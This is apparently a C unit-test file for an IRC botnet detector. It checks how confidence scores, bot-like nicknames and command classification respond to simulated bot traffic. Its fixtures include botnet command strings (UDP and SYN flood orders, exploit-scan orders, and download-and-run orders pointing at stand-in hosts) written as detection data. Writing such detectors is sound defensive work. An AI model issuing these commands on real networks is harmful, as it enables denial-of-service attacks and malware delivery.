/* SPDX-License-Identifier: GPL-2.0-or-later */
/* detect/irc_test.c - bot.irc: bots with and without orders, and people who chat. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "detect/bot_play.h"
#include "detect/detectors.h"
#include "detect/irc.h"

#define SERVER "203.0.113.66"
#define MEDIUM 0.7F

struct chatter {
	struct play *play;
	struct app_event event;
};

static struct app_text text(const char *string)
{
	return (struct app_text){ string, (uint32_t)strlen(string) };
}

static void say(struct chatter *who, double time_s, struct app_irc irc)
{
	who->event.time_ns = PLAY_START_NS + (int64_t)(time_s * (double)NS_PER_S);
	who->event.irc = irc;
	play_see(who->play, &who->event);
}

static struct chatter come(
	struct play *play, const char *host, const char *nick, const char *channel, const char *key)
{
	struct chatter who = { play, play_event(play, APP_IRC, 0, play_addr(host),
					     play_addr(SERVER), IPPROTO_TCP, 8080) };

	say(&who, 0, (struct app_irc){ .what = IRC_REGISTER, .nick = text(nick) });
	say(&who, 1, (struct app_irc){ .what = IRC_WELCOME, .nick = text(nick) });
	say(&who, 1.5,
		(struct app_irc){ .what = IRC_JOIN,
			.nick = text(nick),
			.channel = text(channel),
			.password = text(key) });
	return who;
}

static void hear(struct chatter *who, double time_s, const char *words)
{
	say(who, time_s,
		(struct app_irc){ .what = IRC_MESSAGE,
			.nick = text("boss"),
			.channel = text("#x"),
			.text = text(words),
			.is_from_server = true });
}

static void speak(struct chatter *who, double time_s, const char *words)
{
	say(who, time_s,
		(struct app_irc){
			.what = IRC_MESSAGE, .channel = text("#x"), .text = text(words) });
}

static void idle(struct chatter *who, double from_s, unsigned pings)
{
	for (unsigned i = 0; i < pings; i++)
		say(who, from_s + 90 * i, (struct app_irc){ .what = IRC_PING });
}

static float found(const struct play *play, const char *host)
{
	float confidence;

	play_count(play, KIND_BOT_IRC, play_addr(host), &confidence);
	return confidence;
}

static void a_bot_with_orders_is_found(void **state)
{
	struct play *play = play_open(&detector_irc, NULL);
	struct chatter bot = come(play, "10.0.0.7", "[DEU|XP]-8231", "#x", "key");
	struct addr server = play_addr(SERVER);
	const struct finding *finding;

	(void)state;
	hear(&bot, 20, ".udpflood 198.51.100.1 80 60");
	speak(&bot, 21, "[DDoS]: flooding 198.51.100.1");
	idle(&bot, 30, 2);
	finding = &play->findings.list[play->findings.count - 1];
	assert_true(finding->confidence > MEDIUM);
	assert_true(addr_equal(&finding->to, &server));
	assert_int_equal(finding->to_role, ROLE_CONTROLLER);
	assert_string_equal(finding->name, "#x");
	assert_non_null(strstr(finding->detail, ".udpflood 198.51.100.1"));
	assert_true(finding_evidence(finding, "orders", 0) == 1);
	play_close(play);
}

static void an_order_in_the_topic_counts(void **state)
{
	struct play *play = play_open(&detector_irc, NULL);
	struct chatter bot = come(play, "10.0.0.7", "USA|4821377", "#x", "");

	(void)state;
	say(&bot, 2,
		(struct app_irc){ .what = IRC_TOPIC,
			.channel = text("#x"),
			.text = text(".download http://203.0.113.1/a.exe c:\\a.exe 1"),
			.is_from_server = true });
	assert_true(found(play, "10.0.0.7") >= MEDIUM);
	play_close(play);
}

static void an_order_that_is_carried_out_is_certain(void **state)
{
	struct play *play = play_open(&detector_irc, NULL);
	struct chatter bot = come(play, "10.0.0.7", "joe", "#x", "");

	(void)state;
	hear(&bot, 5, "!scan 198.51.100.1 23");
	assert_true(found(play, "10.0.0.7") < 0.6F);
	for (unsigned i = 0; i < 30; i++) {
		struct app_event event = play_event(play, APP_REFUSED, 16 + i * 0.1,
			play_addr("10.0.0.7"), play_addr("198.51.100.1"), IPPROTO_TCP, 23);

		play_see(play, &event);
	}
	idle(&bot, 30, 1);
	assert_true(found(play, "10.0.0.7") > 0.9F);
	play_close(play);
}

/* Who shares files fails to reach peers all day; a stranger may send him what he likes. */
static void what_an_order_does_not_name_is_not_obeyed(void **state)
{
	struct play *play = play_open(&detector_irc, NULL);
	struct chatter person = come(play, "10.0.0.7", "joe", "#x", "");

	(void)state;
	hear(&person, 5, ".udpflood 198.51.100.1 8080 60");
	for (unsigned i = 0; i < 60; i++) {
		struct addr peer = play_addr("203.0.113.0");
		struct app_event event;

		peer.byte[15] = (uint8_t)i;
		event = play_event(play, APP_REFUSED, 6 + i * 0.5, play_addr("10.0.0.7"), peer,
			IPPROTO_TCP, (uint16_t)(20000 + i));
		play_see(play, &event);
	}
	idle(&person, 50, 2);
	assert_true(found(play, "10.0.0.7") < 0.6F);
	play_close(play);
}

/* An order to him alone, and "I am away" as the answer. */
static void a_private_message_makes_no_bot(void **state)
{
	struct play *play = play_open(&detector_irc, NULL);
	struct chatter person = come(play, "10.0.0.7", "qzxvwkpt", "#x", "");

	(void)state;
	say(&person, 10,
		(struct app_irc){ .what = IRC_MESSAGE,
			.nick = text("boss"),
			.channel = text("qzxvwkpt"),
			.text = text(".udpflood 198.51.100.1 8080 60"),
			.is_from_server = true });
	speak(&person, 11, "I am away");
	idle(&person, 50, 2);
	assert_true(found(play, "10.0.0.7") < MEDIUM);
	play_close(play);
}

static void several_of_one_pattern_are_found(void **state)
{
	static const char *const hosts[] = { "10.0.0.7", "10.0.0.8", "10.0.0.9" };
	static const char *const nicks[] = { "[DEU|XP]-8231", "[DEU|XP]-1177", "[DEU|XP]-902" };
	struct play *play = play_open(&detector_irc, NULL);

	(void)state;
	for (unsigned i = 0; i < 3; i++) {
		struct chatter bot = come(play, hosts[i], nicks[i], "#x", "");

		idle(&bot, 30, 2);
	}
	assert_true(found(play, "10.0.0.9") >= MEDIUM);
	play_close(play);
}

static void one_that_only_waits_is_low(void **state)
{
	struct play *play = play_open(&detector_irc, NULL);
	struct chatter bot = come(play, "10.0.0.7", "[DEU|XP]-8231", "#x", "key");

	(void)state;
	idle(&bot, 30, 5);
	assert_true(found(play, "10.0.0.7") > 0.4F);
	assert_true(found(play, "10.0.0.7") < 0.6F);
	play_close(play);
}

static void people_are_none(void **state)
{
	static const char *const hosts[] = { "10.0.0.7", "10.0.0.8", "10.0.0.9" };
	static const char *const nicks[] = { "Guest48231", "Guest19377", "Guest77120" };
	struct play *play = play_open(&detector_irc, NULL);
	struct chatter person = come(play, "10.0.0.1", "john1987", "#x", "");

	(void)state;
	/* Talks, asks a channel's helper, hears of malware. */
	for (unsigned i = 0; i < 30; i++)
		hear(&person, 10 + i, "hello all, how are you");
	hear(&person, 41, "!seen alice");
	hear(&person, 42, "the bot takes .udpflood 198.51.100.1 80 as an order");
	speak(&person, 50, "hi");
	speak(&person, 60, "who knows that bot?");
	speak(&person, 70, "thanks");
	hear(&person, 75, ".udpflood 198.51.100.1 80 60");
	idle(&person, 80, 20);
	assert_true(found(play, "10.0.0.1") == 0);
	/* A class in a web chat. */
	for (unsigned i = 0; i < 3; i++) {
		person = come(play, hosts[i], nicks[i], "#class", "");
		idle(&person, 30, 3);
	}
	assert_int_equal(play->findings.count, 0);
	play_close(play);
}

static void a_silent_reader_stays_low(void **state)
{
	struct play *play = play_open(&detector_irc, NULL);
	struct chatter person = come(play, "10.0.0.1", "lurker", "#malware", "");

	(void)state;
	hear(&person, 41, ".udpflood 198.51.100.1 80 60");
	idle(&person, 80, 20);
	assert_true(found(play, "10.0.0.1") < 0.6F);
	play_close(play);
}

static void nicks(void **state)
{
	(void)state;
	assert_true(chat_nick_is_made(text("[DEU|XP]-8231")));
	assert_true(chat_nick_is_made(text("{USA|W7}48213")));
	assert_true(chat_nick_is_made(text("rbot-928371")));
	assert_true(chat_nick_is_made(text("qzxvwkpt")));
	assert_false(chat_nick_is_made(text("john1987")));
	assert_false(chat_nick_is_made(text("[afk]bob")));
	assert_false(chat_nick_is_made(text("bob|away")));
	assert_false(chat_nick_is_made(text("schwartz")));
	assert_false(chat_nick_is_made(text("molochtest")));
	assert_false(chat_nick_is_made(text("mib_48f3a9921")));
	assert_false(chat_nick_is_made(text("")));
	assert_true(chat_nick_shape(text("[DEU|XP]-8231")) == chat_nick_shape(text("[US|VIS]-7")));
	assert_true(chat_nick_shape(text("alice")) != chat_nick_shape(text("Alice")));
}

static enum chat_order order(const char *words, const char **ret_family)
{
	*ret_family = NULL;
	return chat_order_of(text(words), ret_family);
}

static void orders(void **state)
{
	const char *family;

	(void)state;
	assert_int_equal(order(".advscan asn1smb 100 5 0 -r", &family), CHAT_ORDER_STRONG);
	assert_string_equal(family, "sdbot");
	assert_int_equal(order("!* UDP 198.51.100.1 80 60", &family), CHAT_ORDER_STRONG);
	assert_string_equal(family, "tsunami");
	assert_int_equal(order("!bot @udpflood 198.51.100.1 80 60", &family), CHAT_ORDER_STRONG);
	assert_string_equal(family, "shellbot");
	assert_int_equal(order("@dl http://203.0.113.1/x", &family), CHAT_ORDER_STRONG);
	assert_int_equal(order("\3"
			       "04!syn 198.51.100.1 80",
				 &family),
		CHAT_ORDER_STRONG);
	assert_int_equal(order("!attack", &family), CHAT_ORDER_WEAK);
	assert_int_equal(order("!download manual", &family), CHAT_ORDER_NONE);
	assert_int_equal(order("!help udp", &family), CHAT_ORDER_NONE);
	assert_int_equal(order("...", &family), CHAT_ORDER_NONE);
	assert_int_equal(order("udp flood 198.51.100.1", &family), CHAT_ORDER_NONE);
	assert_int_equal(order("", &family), CHAT_ORDER_NONE);
	assert_true(chat_is_report(text("[SCAN]: Exploit statistics")));
	assert_true(chat_is_report(text("\2[DDoS]\2 finished")));
	assert_false(chat_is_report(text("[offtopic] what a day")));
	assert_false(chat_is_report(text("I attack the problem")));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_bot_with_orders_is_found),
		cmocka_unit_test(an_order_in_the_topic_counts),
		cmocka_unit_test(an_order_that_is_carried_out_is_certain),
		cmocka_unit_test(what_an_order_does_not_name_is_not_obeyed),
		cmocka_unit_test(a_private_message_makes_no_bot),
		cmocka_unit_test(several_of_one_pattern_are_found),
		cmocka_unit_test(one_that_only_waits_is_low),
		cmocka_unit_test(people_are_none),
		cmocka_unit_test(a_silent_reader_stays_low),
		cmocka_unit_test(nicks),
		cmocka_unit_test(orders),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
